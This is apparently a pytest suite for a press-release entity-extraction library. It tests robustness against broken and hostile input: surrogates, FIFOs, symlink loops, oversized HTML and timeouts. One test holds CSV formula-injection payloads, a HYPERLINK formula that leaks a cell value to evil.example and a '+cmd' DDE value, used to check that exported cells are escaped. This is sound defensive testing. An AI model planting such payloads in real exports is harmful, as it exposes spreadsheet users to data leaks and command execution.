"""Hostile and broken input: the output folder is never read as input, a bad character is a bad
document (never a crashed run), and resume retries what failed."""
from __future__ import annotations

import json
import threading

import pytest

from dialogue_extract import extract
from dialogue_extract.batch import DOCUMENTS_FILE, read_documents, run_batch

RELEASE = ("Tokyo, 12 June 2023. Foreign Minister Haruka Onodera held talks with the visiting "
           "Minister of Foreign Affairs of Sweden, Sofia Lindqvist, on trade and renewable energy.")


def _run_bounded(fn, seconds=120):
    """Run ``fn`` in a thread; fail (instead of filling the disk) if it does not end in time."""
    box: dict = {}

    def target():
        try:
            box["value"] = fn()
        except BaseException as e:  # noqa: BLE001
            box["error"] = e

    t = threading.Thread(target=target, daemon=True)
    t.start()
    t.join(seconds)
    assert not t.is_alive(), "the batch did not end: it reads its own output"
    if "error" in box:
        raise box["error"]
    return box.get("value")


def _corpus(root, n=3):
    root.mkdir(parents=True, exist_ok=True)
    for i in range(n):
        (root / f"r{i}.txt").write_text(f"Release {i}. " + RELEASE, encoding="utf-8")
    with (root / "recs.jsonl").open("w", encoding="utf-8") as fh:
        fh.write(json.dumps({"id": "j1", "text": RELEASE}) + "\n")


def test_out_inside_an_input_folder_is_never_read_as_input(tmp_path):
    src = tmp_path / "d"
    _corpus(src)
    out = src / "results"
    s = _run_bounded(lambda: run_batch([src], out, table_format="csv", progress=False))
    assert s.succeeded == 4 and s.failed == 0
    docs = list(read_documents(out / DOCUMENTS_FILE))
    assert sorted(d["id"] for d in docs) == sorted(["j1"] + [(src / f"r{i}.txt").as_posix() for i in range(3)])
    # a resume does not read the output files either
    s2 = _run_bounded(lambda: run_batch([src], out, table_format="csv", resume=True, progress=False))
    assert s2.succeeded == 0 and s2.failed == 0 and s2.skipped == 4
    # nor does a glob reaching into the output folder
    s3 = _run_bounded(lambda: run_batch([str(src) + "/**/*.jsonl"], out, table_format="csv",
                                        overwrite=True, progress=False))
    assert s3.succeeded == 1


def test_out_equal_to_an_input_folder_is_refused_clearly(tmp_path):
    src = tmp_path / "d"
    _corpus(src)
    with pytest.raises(ValueError, match="output folder"):
        _run_bounded(lambda: run_batch([src], src, progress=False))
    with pytest.raises(ValueError, match="output folder"):
        _run_bounded(lambda: run_batch([src / "r0.txt", tmp_path], src, progress=False))
    assert not (src / DOCUMENTS_FILE).exists()


def test_lone_surrogate_is_an_error_record_naming_char_and_position(tmp_path):
    path = tmp_path / "recs.jsonl"
    with path.open("w", encoding="utf-8") as fh:
        fh.write(json.dumps({"id": "good1", "text": RELEASE}) + "\n")
        fh.write(json.dumps({"id": "bad", "text": "Tokyo. Minister \ud800 met"}) + "\n")
        fh.write(json.dumps({"id": "bad\udfffid", "text": RELEASE}) + "\n")
        fh.write(json.dumps({"id": "good2", "text": RELEASE}) + "\n")
    for workers in (1, 2):
        out = tmp_path / f"out{workers}"
        s = run_batch([path], out, workers=workers, batch_size=4, progress=False)
        assert (s.succeeded, s.failed) == (2, 2)
        docs = {d["id"]: d for d in read_documents(out / DOCUMENTS_FILE)}
        assert "U+D800" in docs["bad"]["error"] and "16" in docs["bad"]["error"]
        bad_id = [k for k in docs if k.startswith("bad") and k != "bad"][0]
        assert "U+DFFF" in docs[bad_id]["error"]
        assert docs["good2"]["extraction"] is not None
        assert (out / "entities.jsonl").exists()
        s = run_batch([path], out, workers=workers, resume=True, progress=False)
        assert s.succeeded == 0


def test_extract_lone_surrogate_raises_value_error_saying_where():
    with pytest.raises(ValueError, match=r"U\+D800.*position 0"):
        extract("\ud800")
    with pytest.raises(ValueError, match=r"U\+DC00.*position 5"):
        extract("Hello\udc00 world")


def test_resume_retries_failures_and_exits_non_zero_while_errors_remain(tmp_path):
    from typer.testing import CliRunner

    from dialogue_extract.cli import app

    src = tmp_path / "in"
    _corpus(src, n=2)
    (src / "late.txt").write_bytes(b"\xff\xfe not utf-8 yet")
    out = tmp_path / "out"
    runner = CliRunner()
    r = runner.invoke(app, ["batch", str(src), "--out", str(out), "--quiet", "--format", "csv"])
    assert r.exit_code == 1
    r = runner.invoke(app, ["batch", str(src), "--out", str(out), "--quiet", "--resume", "--format", "csv"])
    assert r.exit_code == 1  # the failure is retried, fails again, and is still reported
    docs = list(read_documents(out / DOCUMENTS_FILE))
    assert len(docs) == 4 and sum(1 for d in docs if d["error"]) == 1
    (src / "late.txt").write_text("Release. " + RELEASE, encoding="utf-8")  # the source is fixed
    s = run_batch([src], out, resume=True, table_format="csv", progress=False)
    assert (s.succeeded, s.failed, s.skipped) == (1, 0, 3)
    docs = list(read_documents(out / DOCUMENTS_FILE))
    assert len(docs) == 4 and not any(d["error"] for d in docs)
    r = runner.invoke(app, ["batch", str(src), "--out", str(out), "--quiet", "--resume", "--format", "csv"])
    assert r.exit_code == 0


def test_cli_refuses_out_equal_to_input_with_usage_error(tmp_path):
    from typer.testing import CliRunner

    from dialogue_extract.cli import app

    src = tmp_path / "d"
    _corpus(src, n=1)
    r = CliRunner().invoke(app, ["batch", str(src), "--out", str(src), "--quiet"])
    assert r.exit_code == 2 and "output folder" in r.output
    assert not (src / DOCUMENTS_FILE).exists()


@pytest.mark.parametrize("value, exc", [("2024-03-04garbage", ValueError), ("2024-W10-1", ValueError),
                                        ("2024-02-30", ValueError), (20240304, TypeError)])
def test_reference_date_must_be_an_exact_iso_date(value, exc):
    with pytest.raises(exc, match="reference_date"):
        extract(RELEASE, reference_date=value)


def test_missing_reference_dates_are_none():
    import math

    import pandas as pd

    from dialogue_extract.extractor import coerce_reference_date

    for missing in (None, float("nan"), math.nan, pd.NaT):
        assert coerce_reference_date(missing) is None
    assert str(coerce_reference_date("2024-03-04T10:00:00Z")) == "2024-03-04"


def test_relative_dates_beyond_the_calendar_have_no_value():
    import datetime as dt

    ex = extract("Tokyo. The minister will travel tomorrow and next year.", reference_date=dt.date(9999, 12, 31))
    assert ex.error is None and all(d.value is None or "10000" not in d.value for d in ex.dates)
    ex = extract("Tokyo. The minister arrived yesterday, last month.", reference_date=dt.date(1, 1, 1))
    assert ex.error is None and all(d.value is None or not d.value.startswith("0000") for d in ex.dates)


def test_bare_strings_and_none_items_are_type_errors():
    from dialogue_extract import extract_many, resolve_mentions
    from dialogue_extract.corpus import resolve_corpus

    with pytest.raises(TypeError, match="bare str"):
        list(extract_many("text"))
    with pytest.raises(TypeError, match="bare str"):
        resolve_mentions("P. Kumaran")
    with pytest.raises(TypeError, match="NoneType"):
        resolve_mentions([None])
    with pytest.raises(TypeError, match="NoneType"):
        resolve_corpus([None])
    with pytest.raises(TypeError, match="bare str"):
        resolve_corpus("x")


def test_special_files_and_link_loops_are_error_records_not_hangs(tmp_path, monkeypatch):
    import os

    from dialogue_extract import sources

    src = tmp_path / "in"
    _corpus(src, n=1)
    os.mkfifo(src / "pipe.txt")
    os.symlink("/dev/zero", src / "zero.txt")
    os.symlink("/dev/zero", src / "zero.jsonl")
    (src / "sub").mkdir()
    os.symlink("..", src / "sub" / "loop")  # a link loop
    (src / "sub" / "big.txt").write_text("Tokyo. " * 200, encoding="utf-8")
    monkeypatch.setattr(sources, "MAX_FILE_BYTES", 1000)
    out = tmp_path / "out"
    s = _run_bounded(lambda: run_batch([src], out, table_format="csv", progress=False), 120)
    docs = {d["id"]: d for d in read_documents(out / DOCUMENTS_FILE)}
    assert "FIFO" in docs[(src / "pipe.txt").as_posix()]["error"]
    assert "device" in docs[(src / "zero.txt").as_posix()]["error"]
    assert "device" in docs[(src / "zero.jsonl").as_posix()]["error"]
    assert "limit" in docs[(src / "sub" / "big.txt").as_posix()]["error"]
    assert docs["j1"]["extraction"] is not None and s.succeeded == 2
    # a ** glob over the link loop ends, and finds each file once
    s = _run_bounded(lambda: run_batch([str(src) + "/**/*.txt"], tmp_path / "out2", table_format="csv",
                                       progress=False), 120)
    docs = [d["id"] for d in read_documents(tmp_path / "out2" / DOCUMENTS_FILE)]
    assert len(docs) == len(set(docs)) and (src / "r0.txt").as_posix() in docs
    # a FIFO named on the command line is an error record too
    s = _run_bounded(lambda: run_batch([src / "pipe.txt"], tmp_path / "out3", table_format="csv",
                                       progress=False), 60)
    assert s.failed == 1


def test_long_jsonl_line_is_an_error_record(tmp_path, monkeypatch):
    from dialogue_extract import sources

    monkeypatch.setattr(sources, "MAX_FILE_BYTES", 2000)
    path = tmp_path / "recs.jsonl"
    with path.open("w", encoding="utf-8") as fh:
        fh.write(json.dumps({"id": "long", "text": "x " * 5000}) + "\n")
        fh.write(json.dumps({"id": "ok", "text": RELEASE}) + "\n")
    recs = list(sources.iter_sources([path]))
    assert "limit" in recs[0].error and recs[1].id == "ok" and recs[1].line == 2


@pytest.mark.parametrize("run", ["," * 30000, "(" * 20000 + ")" * 20000, "'" * 20000, "x" * 5000 + "," * 5000])
def test_long_runs_without_spaces_keep_text_and_offsets_exact(run):
    from dialogue_extract import get_extractor
    from dialogue_extract.extractor import tokenize_bounded

    text = "Tokyo, 12 June 2023. Foreign Minister Haruka Onodera met " + run + " Minister Sofia Lindqvist of Sweden."
    ex = get_extractor()
    doc = tokenize_bounded(ex.nlp, text)
    assert doc.text == text
    assert max(len(t) for t in doc) <= 256
    res = ex.extract(text)
    assert res.error is None
    names = {o.name for o in res.officials}
    assert {"Haruka Onodera", "Sofia Lindqvist"} <= names
    for o in res.officials:
        for m in o.mentions:
            assert text[m.start:m.end] == m.text


def test_many_hyphenated_country_tokens_keep_offsets_exact():
    text = "Tokyo, 12 June 2023. " + "U.S.-Vietnam and Japan-Korea ties. " * 300
    res = extract(text)
    assert res.error is None
    forms = {c.name for c in res.countries}
    assert {"Vietnam", "Japan"} <= forms or len(forms) >= 3
    for c in res.countries:
        for m in c.mentions:
            assert text[m.start:m.end] == m.text


def test_deep_html_nesting_and_huge_tags_say_what_happened():
    from dialogue_extract.sources import SourceProblem, SourceRecord, prepare_text

    p = "<p>Tokyo, 12 June 2023. Foreign Minister Haruka Onodera met.</p>"
    deep = "<html><body>" + "<div>" * 300 + p + "</div>" * 300 + "</body></html>"
    with pytest.raises(SourceProblem, match="nested 30[0-9] elements deep"):
        prepare_text(SourceRecord(id="x", path="x", kind="html", content=deep))
    attrs = " ".join(f'a{i}="1"' for i in range(20000))
    huge = f"<html><body><p {attrs}>Tokyo, 12 June 2023.</p></body></html>"
    with pytest.raises(SourceProblem, match="HTML tag at position 12"):
        prepare_text(SourceRecord(id="x", path="x", kind="html", content=huge))
    shallow = "<html><body>" + "<div>" * 20 + p + "</div>" * 20 + "</body></html>"
    assert "Onodera" in prepare_text(SourceRecord(id="x", path="x", kind="html", content=shallow)).text


def test_csv_cells_never_start_a_formula_but_parquet_and_json_stay_exact(tmp_path):
    import csv

    import pyarrow.parquet as pq

    from dialogue_extract.batch import CSV_FORMULA_STARTS, TABLES, csv_cell

    evil_id = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    evil_text = '=HYPERLINK("http://evil.example/","open") ' + RELEASE
    path = tmp_path / "recs.jsonl"
    with path.open("w", encoding="utf-8") as fh:
        fh.write(json.dumps({"id": evil_id, "text": evil_text}) + "\n")
        fh.write(json.dumps({"id": "+cmd|' /C calc'!A0", "text": RELEASE}) + "\n")
        fh.write(json.dumps({"id": "-2+3", "text": RELEASE}) + "\n")
        fh.write(json.dumps({"id": "@SUM(1)", "text": RELEASE}) + "\n")
        fh.write(json.dumps({"id": "\tTAB", "text": RELEASE}) + "\n")
        fh.write(json.dumps({"id": "plain", "text": RELEASE}) + "\n")
    ids = [json.loads(line)["id"] for line in path.read_text(encoding="utf-8").splitlines()]
    s = run_batch([path], tmp_path / "csv", table_format="csv", progress=False)
    assert s.succeeded == 6 and s.failed == 0
    for name in TABLES:
        with (tmp_path / "csv" / f"{name}.csv").open(encoding="utf-8", newline="") as fh:
            rows = list(csv.reader(fh))
        assert rows[1:] or name == "organizations", name  # the tables have rows for these releases
        for row in rows[1:]:
            for cell in row:
                assert not cell or cell[0] not in CSV_FORMULA_STARTS, (name, cell)
        if rows[0][0] == "doc_id" and rows[1:]:
            doc_ids = {row[0] for row in rows[1:]}
            assert "'" + evil_id in doc_ids and "plain" in doc_ids
    # JSON and Parquet keep the exact values
    docs = {d["id"]: d for d in read_documents(tmp_path / "csv" / DOCUMENTS_FILE)}
    assert set(docs) == set(ids) and docs[evil_id]["text"] == evil_text
    s = run_batch([path], tmp_path / "pq", progress=False)
    assert set(pq.read_table(tmp_path / "pq" / "officials.parquet").column("doc_id").to_pylist()) == set(ids)
    # the helper itself: numbers and harmless text unchanged
    assert csv_cell(-3) == -3 and csv_cell("Tokyo") == "Tokyo" and csv_cell("") == ""
    assert csv_cell("\r=1") == "'\r=1" and csv_cell("\uff1d1+1") == "'\uff1d1+1"


SPACED = ("New Delhi, 7 November 2024. External Affairs Minister{a}Dr.{n}S.{n}Jaishankar met Foreign "
          "Minister{b}Penny{n}Wong of Australia{z} on trade,{z}education and critical minerals. "
          "Dr.{n}Jaishankar thanked Minister{a}Wong for the support of Australia{z}to India.")


def _summary(ex):
    return ([(o.name, o.titles, o.country, [(m.start, m.end) for m in o.mentions]) for o in ex.officials],
            [(c.code, [(m.start, m.end) for m in c.mentions]) for c in ex.countries],
            [(d.start, d.end, d.value) for d in ex.dates], sorted(s.id for s in ex.sectors))


def _assert_exact(ex, text):
    for m in [m for o in ex.officials for m in o.mentions] + [m for c in ex.countries for m in c.mentions] + \
             [m for s in ex.sectors for m in s.mentions] + list(ex.dates):
        assert text[m.start:m.end] == m.text
    assert ex.text == text


@pytest.mark.parametrize("a,b,n,z", [
    ("\u00a0", "\u202f", " ", " "),          # no-break and narrow no-break spaces after the titles
    ("\u00a0", "\u00a0", "\u00a0", " "),     # and inside the names
    (" \u200b", "\u2060", " ", " \u200b"),  # zero-width spaces beside spaces, word joiner for one
    ("\u200b", "\ufeff", "\u2009", "\u200b"),  # zero-width spaces alone, thin spaces in names
    ("\u2007", "\u3000", "\u2002", "\t"),    # figure, ideographic, en spaces, a tab
])
def test_space_like_characters_read_as_spaces_with_exact_offsets(a, b, n, z):
    plain = extract(SPACED.format(a=" ", b=" ", n=" ", z=""), reference_date="2024-11-07")
    names, countries, _, _ = _summary(plain)
    assert {o[0] for o in names} == {"S. Jaishankar", "Penny Wong"}
    assert {c[0] for c in countries} == {"AUS", "IND"}
    text = SPACED.format(a=a, b=b, n=n, z=z)
    ex = extract(text, reference_date="2024-11-07")
    _assert_exact(ex, text)
    got = _summary(ex)
    assert [(o[0], o[1], o[2]) for o in got[0]] == [(o[0], o[1], o[2]) for o in names]
    assert [c[0] for c in got[1]] == [c[0] for c in countries]
    assert [d[2] for d in got[2]] == [d.value for d in plain.dates] == ["2024-11-07"]
    assert got[3] == _summary(plain)[3]
    # mention texts keep the characters of the input
    if n != " ":
        assert any(n in m.text for o in ex.officials for m in o.mentions)


def test_runs_of_spaces_do_not_split_titles_from_names():
    text = "Foreign Minister  Penny   Wong met External Affairs Minister\u00a0 S.  Jaishankar of India."
    ex = extract(text)
    _assert_exact(ex, text)
    assert {o.name for o in ex.officials} == {"Penny Wong", "S. Jaishankar"}
    assert {m.text for o in ex.officials for m in o.mentions} == {"Penny   Wong", "S.  Jaishankar"}


def test_recognition_text_maps_offsets_back():
    from dialogue_extract.pipeline.text import recognition_text, space_view

    text = "a\u00a0\u200b b  \u2028c\u3000\u3000\u3000d"
    assert space_view(text) == "a   b  \nc   d" and len(space_view(text)) == len(text)
    view, omap = recognition_text(text)
    assert view == "a b \nc d"
    for i, ch in enumerate(view):
        if ch != " ":
            assert space_view(text)[omap(i)] == ch
    assert recognition_text("plain text") == ("plain text", None)


def test_a_document_over_its_time_budget_is_an_error_record_and_the_run_goes_on(tmp_path, monkeypatch):
    import signal
    import time

    from dialogue_extract.extractor import Extractor

    real = Extractor.extract_many

    def slow_on_marker(self, items, **kw):
        items = list(items)
        if any("SLOW" in (t if isinstance(t, str) else t[0]) for t in items):
            time.sleep(30)  # interrupted by the budget
        return real(self, items, **kw)

    monkeypatch.setattr(Extractor, "extract_many", slow_on_marker)
    path = tmp_path / "recs.jsonl"
    with path.open("w", encoding="utf-8") as fh:
        for i, text in enumerate([RELEASE, "SLOW " + RELEASE, RELEASE]):
            fh.write(json.dumps({"id": f"d{i}", "text": text}) + "\n")
    handler = signal.getsignal(signal.SIGALRM)
    t0 = time.monotonic()
    s = run_batch([path], tmp_path / "out", timeout_per_doc=1, batch_size=8, progress=False)
    assert time.monotonic() - t0 < 25
    assert (s.succeeded, s.failed) == (2, 1)
    docs = {d["id"]: d for d in read_documents(tmp_path / "out" / DOCUMENTS_FILE)}
    assert docs["d1"]["extraction"] is None and "timed out" in docs["d1"]["error"] and "1 s" in docs["d1"]["error"]
    assert docs["d0"]["extraction"]["officials"] and docs["d2"]["extraction"]["officials"]
    # the timer is cleared and the previous handler back
    assert signal.getitimer(signal.ITIMER_REAL) == (0.0, 0.0) and signal.getsignal(signal.SIGALRM) is handler


def test_time_budget_holds_in_worker_processes_and_on_the_command_line(tmp_path):
    from typer.testing import CliRunner

    from dialogue_extract.cli import app

    path = tmp_path / "recs.jsonl"
    with path.open("w", encoding="utf-8") as fh:
        for i in range(3):
            fh.write(json.dumps({"id": f"d{i}", "text": RELEASE}) + "\n")
    s = run_batch([path], tmp_path / "w2", workers=2, batch_size=2, timeout_per_doc=1e-4, progress=False)
    assert (s.succeeded, s.failed) == (0, 3)
    assert all("timed out" in d["error"] for d in read_documents(tmp_path / "w2" / DOCUMENTS_FILE))
    s = run_batch([path], tmp_path / "w2", workers=2, batch_size=2, resume=True, progress=False)
    assert (s.succeeded, s.failed) == (3, 0)  # the default budget is ample
    r = CliRunner().invoke(app, ["batch", str(path), "--out", str(tmp_path / "cli"), "-q",
                                 "--timeout-per-doc", "0.0001"])
    assert r.exit_code == 1
    assert all("timed out" in d["error"] for d in read_documents(tmp_path / "cli" / DOCUMENTS_FILE))
    with pytest.raises(ValueError, match="timeout_per_doc"):
        run_batch([path], tmp_path / "bad", timeout_per_doc=-1, progress=False)


def test_no_garbage_collection_pass_runs_inside_an_extraction(monkeypatch):
    """Full passes of the cyclic collector walk every live object (the pipeline included) and
    made long documents grow faster than linearly: an extraction pauses it and restores it."""
    import gc

    from dialogue_extract import extract_many
    from dialogue_extract.extractor import Extractor

    passes, windows = [], []
    real_make, real_to = Extractor.make_doc, Extractor.to_extraction

    def make_doc(self, *a, **kw):
        windows.append(len(passes))
        return real_make(self, *a, **kw)

    def to_extraction(self, *a, **kw):
        out = real_to(self, *a, **kw)
        windows.append(len(passes))
        return out

    def count(phase, info):
        if phase == "start":
            passes.append(info["generation"])

    monkeypatch.setattr(Extractor, "make_doc", make_doc)
    monkeypatch.setattr(Extractor, "to_extraction", to_extraction)
    text = "Tokyo, 12 June 2023. Foreign Minister Haruka Onodera met. " + "U.S.-Vietnam and " * 4000
    assert gc.isenabled()
    gc.callbacks.append(count)
    try:
        ex = extract(text)
        one, windows[:] = list(windows), []
        many = list(extract_many([text, RELEASE]))
    finally:
        gc.callbacks.remove(count)
    assert ex.ok and ex.countries and all(m.ok for m in many)
    # no pass between reading the text and building the results, in either call
    assert len(one) == 2 and len(set(one)) == 1 and len(windows) == 4 and len(set(windows)) == 1
    assert gc.isenabled()  # restored
    gc.disable()
    try:
        assert extract(RELEASE).ok and not gc.isenabled()  # a caller's choice is kept
    finally:
        gc.enable()


def test_side_phrase_windows_around_dense_countries_are_searched_once():
    from dialogue_extract.pipeline.components.sides import _merged

    assert _merged([(10, 20), (0, 5), (15, 30), (30, 31), (40, 50)]) == [(0, 5), (10, 31), (40, 50)]
    assert _merged([]) == []
    text = "Tokyo, 12 June 2023. Foreign Minister Haruka Onodera met. " + "U.S.-Vietnam and " * 3000
    ex = extract(text)
    assert ex.ok and {c.code for c in ex.countries} == {"USA", "VNM"}
    assert ex.officials[0].country == "JPN"


def test_a_timeout_landing_inside_a_collector_pause_never_leaves_the_collector_off():
    """The per-document alarm may land between pausing the garbage collector and the cleanup that
    restores it; the budget's own cleanup, once the timer is off, restores it."""
    import gc

    from dialogue_extract.batch import DocumentTimeout, _time_budget

    if not hasattr(__import__("signal"), "setitimer"):
        pytest.skip("no interval timers here")
    assert gc.isenabled()
    with pytest.raises(DocumentTimeout):
        with _time_budget(0.01):
            gc.disable()  # as if the alarm came right after a pause began, before its try block
            while True:
                pass
    assert gc.isenabled()
